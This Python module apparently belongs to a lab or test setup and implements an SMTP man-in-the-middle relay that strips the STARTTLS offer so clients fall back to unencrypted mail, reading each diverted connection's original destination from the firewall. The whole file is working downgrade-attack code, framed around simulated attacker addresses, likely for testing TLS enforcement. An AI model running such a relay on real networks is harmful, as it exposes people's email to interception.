"""The attacker's man in the middle for SMTP: passes everything on, but STARTTLS is never offered."""

import re
import socket
import socketserver
import struct
import threading

from . import firewall, zones

_SO_ORIGINAL_DST = 80
_OFFER = re.compile(rb"^250([- ])STARTTLS\r?$", re.IGNORECASE | re.MULTILINE)


def strip(line):
    """What the victim gets to see of one line of the server: the offer becomes an unknown keyword."""
    return _OFFER.sub(rb"250\1XXXXXXXA\r", line)


def _original(connection):
    """Where the connection was going before the detour."""
    if connection.family == socket.AF_INET6:
        raw = connection.getsockopt(socket.IPPROTO_IPV6, _SO_ORIGINAL_DST, 28)
        return socket.inet_ntop(socket.AF_INET6, raw[8:24]), struct.unpack("!H", raw[2:4])[0]
    raw = connection.getsockopt(socket.IPPROTO_IP, _SO_ORIGINAL_DST, 16)
    return socket.inet_ntop(socket.AF_INET, raw[4:8]), struct.unpack("!H", raw[2:4])[0]


class _Handler(socketserver.BaseRequestHandler):
    def handle(self):
        own = zones.ATTACKER6 if self.request.family == socket.AF_INET6 else zones.ATTACKER4
        try:
            server = socket.create_connection(_original(self.request), timeout=30, source_address=(own, 0))
        except OSError:
            return
        with server:
            threading.Thread(target=_pump, args=(self.request, server), daemon=True).start()
            try:
                for line in server.makefile("rb"):
                    self.request.sendall(strip(line))
            except OSError:
                pass


def _pump(source, target):
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class _Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 128


class _Server6(_Server):
    address_family = socket.AF_INET6


class Relay:
    """Listens on the attacker's addresses, in threads of its own."""

    def __init__(self):
        self._servers = [_Server((zones.ATTACKER4, firewall.RELAY_PORT), _Handler),
                         _Server6((zones.ATTACKER6, firewall.RELAY_PORT), _Handler)]
        for server in self._servers:
            threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True).start()

    def stop(self):
        for server in self._servers:
            server.shutdown()
            server.server_close()
